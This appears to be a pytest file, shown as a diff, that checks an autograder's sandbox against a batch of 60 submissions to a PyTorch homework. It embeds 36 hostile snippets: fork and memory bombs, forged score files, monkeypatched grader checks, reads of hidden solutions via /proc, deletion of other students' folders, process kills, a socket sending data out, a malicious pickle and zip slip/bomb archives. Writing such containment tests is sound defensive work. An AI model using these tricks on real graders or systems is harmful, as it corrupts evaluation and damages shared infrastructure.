@@ -1,0 +1,433 @@
+"""A class of 60 graded in one batch: 12 correct, 12 partly correct and 36 hostile
+submissions against hw1_autograd. Each hostile one earns nothing it did not earn
+honestly, the batch finishes, nothing outside a submission's own folder changes,
+no process survives, and the other students' results are what they earned.
+
+The hostile corpus is HOSTILE below: small snippets appended to (or replacing
+parts of) the stub, the solution or WRONG (a stub whose my_relu returns wrong
+values and changes its input, so it honestly earns 0). Snippets report what
+they managed to read or change by raising "LEAK: ..." in vector_jacobian_product,
+so a leak shows in results.json even when it earned no points.
+
+Limits here are short (tests/hostile_config.toml's numbers, written below) so
+the batch stays fast; bombs only ever run inside those limits.
+"""
+import json
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import threading
+import zipfile
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+
+from autograder import sandbox
+from autograder.assignment import REPO_ROOT
+from harness import SOLUTIONS, TEMPLATE, variant
+from test_hw1_autograd import ALTERNATIVES, MUTANTS
+
+HW, FILE = "hw1_autograd", "myrelu.py"
+SOLUTION = (SOLUTIONS / HW / FILE).read_text()
+STUB = (TEMPLATE / HW / FILE).read_text()
+WRONG = STUB.replace('    raise NotImplementedError("my_relu")',
+                     "    x.data.mul_(2)\n    return x.data")
+LEAK_REPORT = '''
+if LEAKS:
+    def vector_jacobian_product(f, x, v):
+        raise RuntimeError("LEAK: " + "; ".join(LEAKS))
+'''
+PRELUDE = "import os, sys\nLEAKS = []\n"
+
+TEST_CONFIG = """\
+name = "hw1_autograd"
+title = "Homework 1 with short limits (hostile tests)"
+files = ["myrelu.py"]
+seed = 0
+threads = 1
+import_timeout = 15
+test_timeout = 8
+submission_timeout = 90
+
+[params]
+atol = 1e-6
+
+[limits]
+memory_mb = 1536
+processes = 32
+file_size_mb = 16
+disk_mb = 128
+"""
+
+
+@dataclass
+class Hostile:
+    code: str = ""                 # appended to `base` (module level: runs at import)
+    base: str = WRONG
+    score: float = 0.0
+    status: tuple = ()             # one of these must be in the gradebook status
+    says: str = ""                 # must appear in results.json
+    needs: str = ""                # "namespaces": only meaningful with mount/net namespaces
+    files: dict = field(default_factory=dict)   # extra/other files (bytes for zips)
+
+    def source(self) -> str:
+        return PRELUDE + self.base + "\n" + self.code + LEAK_REPORT
+
+
+HOSTILE = {
+    # -- time ------------------------------------------------------------------------------
+    "loop_at_import": Hostile("while True:\n    pass\n", status=("time limit",), says="Time limit"),
+    "loop_in_function": Hostile("def vector_jacobian_product(f, x, v):\n    while True:\n"
+                                "        pass\n", base=SOLUTION, score=19, status=("time limit",)),
+    # -- memory ----------------------------------------------------------------------------
+    "memory_bomb_import": Hostile("_blocks = []\nwhile True:\n    _blocks.append(bytearray(64 * 2**20))\n",
+                                  status=("memory limit",)),
+    "memory_bomb_tensors": Hostile("import torch\ndef grad_dot_squared(x, y):\n    keep = []\n"
+                                   "    while True:\n        keep.append(torch.ones(2**26))\n",
+                                   status=("memory limit",)),
+    "memory_bomb_processes": Hostile(
+        "import time\ndef grad_dot_squared(x, y):\n    for _ in range(4):\n"
+        "        if os.fork() == 0:\n            block = b'\\x01' * (600 * 2**20)\n"
+        "            time.sleep(60)\n            os._exit(0)\n    time.sleep(60)\n",
+        status=("memory limit",), says="all its processes together"),
+    # -- processes -------------------------------------------------------------------------
+    "fork_bomb": Hostile("def grad_dot_squared(x, y):\n    while True:\n        os.fork()\n",
+                         status=("process limit",)),
+    "fork_bomb_persistent_at_import": Hostile(
+        "import time\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n"
+        "        time.sleep(0.01)\n", status=("time limit",)),
+    "thread_bomb": Hostile("import threading, time\ndef grad_dot_squared(x, y):\n"
+                           "    for _ in range(10000):\n        threading.Thread(target=time.sleep,"
+                           " args=(30,), daemon=True).start()\n", status=("process limit",)),
+    # -- exiting early -----------------------------------------------------------------------
+    "sys_exit_at_import": Hostile("sys.exit(0)\n", says="sys.exit"),
+    "os_exit_at_import": Hostile("os._exit(0)\n", status=("crashed",), says="exited with code 0"),
+    "sys_exit_mid_test": Hostile("def vector_jacobian_product(f, x, v):\n    sys.exit(0)\n",
+                                 base=SOLUTION, score=19, says="sys.exit"),
+    "os_exit_mid_test": Hostile("def grad_dot_squared(x, y):\n    os._exit(0)\n",
+                                base=SOLUTION, score=20, status=("crashed",)),
+    # -- forging results -----------------------------------------------------------------------
+    "print_fake_results": Hostile(
+        "import json\n_fake = json.dumps({'score': 24.0, 'tests': [{'name': 'all', 'score': 24,"
+        " 'max_score': 24, 'status': 'passed', 'output': '', 'visibility': 'visible'}]})\n"
+        "print(_fake)\nprint(_fake, file=sys.stderr)\nsys.__stdout__.write(_fake)\n"
+        "os.write(1, _fake.encode())\nos.write(2, _fake.encode())\n"
+        "def grad_dot_squared(x, y):\n    print(_fake)\n    raise SystemExit(0)\n"),
+    "write_results_json": Hostile(
+        "import json\n_fake = json.dumps({'score': 999, 'tests': []})\n"
+        "for _path in ['results.json', '../results.json', '../../results.json', '/tmp/results.json',"
+        " '__OUT__/__SELF__/results.json', '__OUT__/__OTHER__/results.json',"
+        " '__OUT__/__SELF__/grading.json', '/autograder/results/results.json']:\n"
+        "    _existed = os.path.exists(_path)\n"
+        "    try:\n        os.makedirs(os.path.dirname(os.path.abspath(_path)), exist_ok=True)\n"
+        "        with open(_path, 'w') as _f:\n            _f.write(_fake)\n"
+        "        if _existed and _path.startswith('__OUT__'):\n"
+        "            LEAKS.append('overwrote ' + _path)\n"
+        "    except Exception:\n        pass\n"),
+    "forge_channel_frames": Hostile(
+        "import struct\nfrom autograder import plain\n_frames = b''\nfor _ in range(40):\n"
+        "    _p = plain.dumps({'ok': True, 'value': 'MyReLUBackward', 'hello': True,"
+        " 'import_errors': {}})\n    _frames += struct.pack('<Q', len(_p)) + _p\n"
+        "for _fd in range(3, 64):\n    try:\n"
+        "        if os.readlink(f'/proc/self/fd/{_fd}').startswith('pipe:'):\n"
+        "            os.write(_fd, _frames)\n    except OSError:\n        pass\n",
+        status=("tampering",)),
+    "patch_worker_modules": Hostile(
+        "import autograder.plain as _p, autograder.testing as _t\n"
+        "_p.to_plain = lambda value: 'MyReLUBackward'\n"
+        "_t.run_probe = lambda *a, **k: 'MyReLUBackward'\n"),
+    # -- reading what is hidden ----------------------------------------------------------------
+    "read_solution": Hostile(
+        "for _path in ['__REPO__/solutions/hw1_autograd/myrelu.py']:\n    try:\n"
+        "        exec(open(_path).read(), globals())\n        LEAKS.append('read ' + _path)\n"
+        "    except Exception:\n        pass\n", needs="namespaces"),
+    "read_solution_via_proc": Hostile(
+        "_rel = '__REPO__/solutions/hw1_autograd/myrelu.py'\n"
+        "_cands = [f'/proc/{p}/root{_rel}' for p in (os.getppid(), 1)]\n"
+        "for _pid in os.listdir('/proc'):\n    if _pid.isdigit():\n"
+        "        _cands += [f'/proc/{_pid}/root{_rel}', f'/proc/{_pid}/cwd/solutions/hw1_autograd/myrelu.py']\n"
+        "for _path in _cands:\n    try:\n        exec(open(_path).read(), globals())\n"
+        "        LEAKS.append('read ' + _path)\n        break\n    except Exception:\n        pass\n"),
+    "read_hidden_tests": Hostile(
+        "for _path in ['__REPO__/assignments/hw1_autograd/tests/q2_backward.py',"
+        " '__ASSIGN__/hw1_autograd/tests/q2_backward.py', '../probes/q2_backward.py']:\n"
+        "    try:\n        if '@test_case' in open(_path).read():\n"
+        "            LEAKS.append('judges in ' + _path)\n    except Exception:\n        pass\n",
+        needs="namespaces"),
+    "search_disk_for_answers": Hostile(
+        "import time\n_t0 = time.monotonic()\n"
+        "for _root in ['/work', '/tmp', '/root', '/home', '/autograder', '/srv', '/opt', '/var/tmp',"
+        " '/mnt', os.path.dirname(os.getcwd())]:\n"
+        "    for _dir, _subdirs, _files in os.walk(_root):\n"
+        "        if time.monotonic() - _t0 > 4 or _dir.count('/') > 8:\n"
+        "            _subdirs[:] = []\n            continue\n"
+        "        if os.path.realpath(_dir).startswith(os.getcwd()):\n            continue\n"
+        "        for _name in _files:\n            if not _name.endswith('.py'):\n                continue\n"
+        "            try:\n                _text = open(os.path.join(_dir, _name)).read()\n"
+        "            except Exception:\n                continue\n"
+        "            if ('BEGIN SOLUTION' in _text and 'MyReLU' in _text) or "
+        "('@test_case' in _text and 'my_relu' in _text):\n"
+        "                LEAKS.append('found ' + os.path.join(_dir, _name))\n",
+        needs="namespaces"),
+    "symlink_to_solution": Hostile(files={"myrelu.py": "@symlink:__REPO__/solutions/hw1_autograd/myrelu.py"},
+                                   says="Links"),
+    # -- changing the grader ----------------------------------------------------------------
+    "monkeypatch_torch": Hostile(
+        "import torch, math\ntorch.allclose = lambda *a, **k: True\n"
+        "torch.isclose = lambda a, b, *x, **k: torch.ones(torch.broadcast_shapes(a.shape, b.shape),"
+        " dtype=torch.bool)\ntorch.equal = lambda *a, **k: True\n"
+        "torch.Tensor.__eq__ = lambda self, other: True\ntorch.Tensor.__ne__ = lambda self, other: False\n"
+        "torch.testing.assert_close = lambda *a, **k: None\nmath.isfinite = lambda v: True\n"
+        "math.isclose = lambda *a, **k: True\n"),
+    "monkeypatch_import": Hostile(
+        "import builtins\n_orig = builtins.__import__\n"
+        "def _fake(name, globals=None, locals=None, fromlist=(), level=0):\n"
+        "    module = _orig(name, globals, locals, fromlist, level)\n"
+        "    for attr in ('expect_close', 'expect_equal', 'expect_tensor', 'expect_shape',"
+        " 'expect_number', 'expect_finite'):\n"
+        "        if hasattr(module, attr):\n            setattr(module, attr, lambda *a, **k: None)\n"
+        "    return module\nbuiltins.__import__ = _fake\n"),
+    "patch_checks_and_tests": Hostile(
+        "import torch\nimport autograder.checks as _c, autograder.testing as _t\n"
+        "for _attr in dir(_c):\n    if _attr.startswith('expect'):\n"
+        "        setattr(_c, _attr, lambda *a, **k: None)\n_t.ProbeFailed = Exception\n"
+        "for _name in ('q1_forward', 'q2_backward'):\n    if _name in sys.modules:\n"
+        "        sys.modules[_name].sample = lambda *a, **k: torch.zeros(1)\n"
+        "for _path in ['__REPO__/autograder/checks.py', '__REPO__/assignments/hw1_autograd/tests/q1_forward.py',"
+        " '__ASSIGN__/hw1_autograd/tests/q1_forward.py']:\n    try:\n        if os.path.exists(_path):\n"
+        "            with open(_path, 'a'):\n                LEAKS.append('can write ' + _path)\n"
+        "    except Exception:\n        pass\n"),
+    "delete_outside_its_folder": Hostile(
+        "import shutil\nfor _path in ['__SUBS__/__OTHER__', '__OUT__/__OTHER__', '__SUBS__/_canary.txt',"
+        " '__OUT__/_canary.txt', '__ASSIGN__/hw1_autograd/config.toml']:\n    try:\n"
+        "        shutil.rmtree(_path) if os.path.isdir(_path) else os.remove(_path)\n"
+        "        LEAKS.append('deleted ' + _path)\n    except Exception:\n        pass\n"
+        "for _dir in ['..', '../..']:\n    for _name in os.listdir(_dir):\n"
+        "        _path = os.path.join(_dir, _name)\n"
+        "        if os.path.abspath(_path) == os.getcwd():\n            continue\n"
+        "        try:\n            shutil.rmtree(_path) if os.path.isdir(_path) else os.remove(_path)\n"
+        "        except Exception:\n            pass\n"),
+    "kill_other_processes": Hostile(
+        "import signal\nfor _pid in [os.getppid(), 1, -1]:\n    if _pid:\n        try:\n"
+        "            os.kill(_pid, signal.SIGKILL)\n        except OSError:\n            pass\n",
+        needs="own user"),
+    # -- network, output, disk --------------------------------------------------------------
+    "open_a_socket": Hostile(
+        "import socket\nfor _host, _port in [('127.0.0.1', __PORT__), ('__HOSTIP__', __PORT__),"
+        " ('1.1.1.1', 53)]:\n    try:\n"
+        "        _s = socket.create_connection((_host, _port), timeout=1)\n"
+        "        _s.sendall(b'stolen')\n        _s.close()\n"
+        "        LEAKS.append(f'connected to {_host}')\n    except Exception:\n        pass\n",
+        needs="namespaces"),
+    "huge_output": Hostile("_line = 'x' * 10**6\ndef grad_dot_squared(x, y):\n    while True:\n"
+                           "        print(_line)\n", status=("file size limit",)),
+    "fill_the_disk": Hostile(
+        "_chunk = b'\\0' * (8 * 2**20)\n"
+        "for _place in ['/tmp', os.environ.get('TMPDIR', '/tmp'), '.', '/dev/shm']:\n"
+        "    for _i in range(100):\n        try:\n"
+        "            with open(os.path.join(_place, f'fill{_i}'), 'wb') as _f:\n"
+        "                for _ in range(4):\n                    _f.write(_chunk)\n"
+        "        except OSError as _e:\n            if _e.errno != 27:\n                break\n",
+        needs="namespaces"),
+    # -- wrong answers in disguise ------------------------------------------------------------
+    "syntax_error": Hostile(base="def my_relu(x)\n    return x\n", says="syntax error"),
+    "wrong_names": Hostile(base="import torch\n\ndef myrelu(x):\n    return x.clamp(min=0)\n\n"
+                                "class MyRelu:\n    pass\n", says="does not define `my_relu`"),
+    "nan_and_inf": Hostile(
+        base="import torch\n\ndef my_relu(x):\n    return x.mul_(float('nan'))\n\n"
+             "def grad_dot_squared(x, y):\n    x.grad = torch.full_like(x, float('inf'))\n"
+             "    return x.grad\n\ndef vector_jacobian_product(f, x, v):\n"
+             "    x.grad = torch.full_like(x, float('nan'))\n    return x.grad\n",
+        says="NaN or infinite"),
+    "lying_tensor_subclass": Hostile(
+        "import torch\nclass Liar(torch.Tensor):\n    def __eq__(self, other):\n        return True\n"
+        "    def __ne__(self, other):\n        return False\n"
+        "    @classmethod\n    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
+        "        if func in (torch.allclose, torch.equal):\n            return True\n"
+        "        if func in (torch.isclose, torch.eq, torch.Tensor.__eq__):\n"
+        "            return torch.ones(args[0].shape, dtype=torch.bool)\n"
+        "        return super().__torch_function__(func, types, args, kwargs or {})\n"
+        "def my_relu(x):\n    x.data.mul_(3)\n    return torch.zeros_like(x).as_subclass(Liar)\n"),
+    "malicious_pickle": Hostile(
+        "class _Evil:\n    def __reduce__(self):\n"
+        "        return (os.system, ('touch __OUT__/pwned_by_pickle',))\n"
+        "def grad_dot_squared(x, y):\n    return {'value': _Evil()}\n", says="not plain data",
+        score=1),   # it leaves x.grad alone: q3's uses_autograd_grad is honestly passed
+    # -- zips ---------------------------------------------------------------------------------
+    "zip_slip": Hostile(files={"zip": {"../../evil_zip_slip.py": "x = 1\n", FILE: SOLUTION}},
+                        status=("rejected",), says="unsafe path"),
+    "zip_bomb": Hostile(files={"zip": {FILE: SOLUTION, "data.bin": "@zeros:300"}},
+                        status=("rejected",), says="more than 256 MB"),
+}
+
+
+def host_ip() -> str:
+    try:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            s.connect(("192.0.2.1", 9))   # no packet is sent
+            return s.getsockname()[0]
+    except OSError:
+        return "127.0.0.1"
+
+
+class Listener:
+    """A TCP server on every interface that records who connected."""
+
+    def __init__(self):
+        self.sock = socket.socket()
+        self.sock.bind(("0.0.0.0", 0))
+        self.sock.listen(16)
+        self.port = self.sock.getsockname()[1]
+        self.received: list[bytes] = []
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self):
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            conn.settimeout(2)
+            try:
+                self.received.append(conn.recv(100) or b"(connected)")
+            except OSError:
+                self.received.append(b"(connected)")
+            conn.close()
+
+
+def write_zip(path: Path, entries: dict) -> None:
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in entries.items():
+            if content.startswith("@zeros:"):
+                with archive.open(zipfile.ZipInfo(name), "w", force_zip64=True) as f:
+                    block = bytes(2**20)
+                    for _ in range(int(content.split(":")[1])):
+                        f.write(block)
+            else:
+                archive.writestr(zipfile.ZipInfo(name), content)
+
+
+def build_class(subs: Path, tokens: dict) -> dict[str, str]:
+    """Write the 60 submissions; return student -> kind (correct/partial/hostile:<case>)."""
+    kinds = {}
+    for i in range(10):
+        shutil.copytree(SOLUTIONS / HW, subs / f"correct_{i:02d}")
+        kinds[f"correct_{i:02d}"] = "correct"
+    for i, replacements in enumerate(ALTERNATIVES.values()):
+        variant(HW, subs / f"correct_alt{i}", FILE, replacements)
+        kinds[f"correct_alt{i}"] = "correct"
+    for i, (replacements, _) in enumerate(MUTANTS.values()):
+        variant(HW, subs / f"partial_{i:02d}", FILE, replacements)
+        kinds[f"partial_{i:02d}"] = "partial"
+    shutil.copytree(REPO_ROOT / "tests" / "samples" / HW / "partial", subs / "partial_sample")
+    kinds["partial_sample"] = "partial"
+    for name, case in HOSTILE.items():
+        student = f"hostile_{name}"
+        kinds[student] = f"hostile:{name}"
+        local = {**tokens, "__SELF__": student}
+        if "zip" in case.files:
+            write_zip(subs / f"{student}.zip", case.files["zip"])
+            continue
+        folder = subs / student
+        folder.mkdir()
+        files = case.files or {FILE: case.source()}
+        for file, text in files.items():
+            for key, value in local.items():
+                text = text.replace(key, value)
+            if text.startswith("@symlink:"):
+                (folder / file).symlink_to(text.split(":", 1)[1])
+            else:
+                (folder / file).write_text(text)
+    return kinds
+
+
+def sandbox_mode() -> str:
+    return sandbox.check()["mode"]
+
+
+def leftover_processes(uids) -> list[int]:
+    """Live processes running as any of these (sandbox) users."""
+    uids = set(uids)
+    return [pid for pid, (_, uid) in sandbox._process_table().items() if uid in uids]
+
+
+def test_a_class_of_60_with_hostile_submissions(tmp_path):
+    assignments = tmp_path / "assignments"
+    shutil.copytree(REPO_ROOT / "assignments" / HW, assignments / HW)
+    (assignments / HW / "config.toml").write_text(TEST_CONFIG)
+    subs, out = tmp_path / "subs", tmp_path / "out"
+    subs.mkdir()
+    out.mkdir()
+    listener = Listener()
+    tokens = {"__REPO__": str(REPO_ROOT), "__OUT__": str(out), "__SUBS__": str(subs),
+              "__ASSIGN__": str(assignments), "__OTHER__": "correct_00",
+              "__PORT__": str(listener.port), "__HOSTIP__": host_ip()}
+    kinds = build_class(subs, tokens)
+    assert len(kinds) == 60
+    for place in (subs, out):
+        (place / "_canary.txt").write_text("canary\n")
+    mode = sandbox_mode()
+    env = {**os.environ, "AUTOGRADER_ASSIGNMENTS": str(assignments)}
+    watched = [REPO_ROOT / "autograder" / "checks.py", REPO_ROOT / "solutions" / HW / FILE,
+               REPO_ROOT / "assignments" / HW / "tests" / "q1_forward.py"]
+    before = [p.read_bytes() for p in watched]
+
+    done = subprocess.run([sys.executable, "-m", "autograder", "grade-all", HW, str(subs),
+                           "--out", str(out), "--jobs", "2"], capture_output=True, text=True,
+                          env=env, cwd=REPO_ROOT, timeout=1500)
+    assert done.returncode == 0, done.stderr[-3000:]
+
+    # The batch finished: every student has a results file and a gradebook row.
+    rows = {r["student"]: r for r in __import__("csv").DictReader(open(out / "gradebook.csv"))}
+    assert set(rows) == set(kinds)
+    results = {s: json.loads((out / s / "results.json").read_text()) for s in kinds}
+    problems = []
+    for student, kind in kinds.items():
+        data, row = results[student], rows[student]
+        text = json.dumps(data)
+        if kind == "correct":
+            if data["score"] != 24:
+                problems.append(f"{student}: {data['score']} (correct work must earn 24)")
+        elif kind == "partial":
+            if not 0 < data["score"] < 24 or row["status"] != "ok":
+                problems.append(f"{student}: {data['score']} {row['status']}")
+        else:
+            case = HOSTILE[kind.split(":")[1]]
+            if case.needs == "namespaces" and mode != "namespaces":
+                continue   # this machine cannot give that guarantee; the results say so
+            if case.needs == "own user" and mode == "limits":
+                continue
+            if data["score"] != case.score:
+                problems.append(f"{student}: scored {data['score']}, honest score {case.score}")
+            if case.status and not any(s in row["status"] for s in case.status):
+                problems.append(f"{student}: status {row['status']!r}, expected {case.status}")
+            if case.says and case.says not in text:
+                problems.append(f"{student}: results do not say {case.says!r}")
+            if "LEAK" in text:
+                problems.append(f"{student}: " + text[text.index("LEAK"):][:200])
+    assert not problems, "\n".join(problems)
+
+    # Others' results are what they earned: the student whose folders the hostile
+    # submissions tried to delete or overwrite got full marks, from the grader.
+    assert results["correct_00"]["score"] == 24
+    assert results["correct_00"]["extra_data"]["status"] == "ok"
+    assert (subs / "correct_00" / FILE).read_text() == SOLUTION
+    # Nothing outside a submission's folder changed; nothing is left running.
+    for place in (subs, out):
+        assert (place / "_canary.txt").read_text() == "canary\n"
+    assert (assignments / HW / "config.toml").read_text() == TEST_CONFIG
+    assert not (out / "pwned_by_pickle").exists()
+    assert not list(tmp_path.rglob("evil_zip_slip.py"))
+    assert [p.read_bytes() for p in watched] == before
+    uids = [u for data in results.values() for u in data.get("extra_data", {}).get("uids", [])]
+    if mode != "limits":
+        assert len(uids) >= 60
+    assert not leftover_processes(uids)
+    if mode == "namespaces":
+        assert listener.received == [], listener.received
+    summary = json.loads((out / "summary.json").read_text())
+    assert summary["submissions"] == 60 and (out / "histogram.png").stat().st_size > 1000
+    assert "hostile_fork_bomb" in (out / "report.html").read_text()
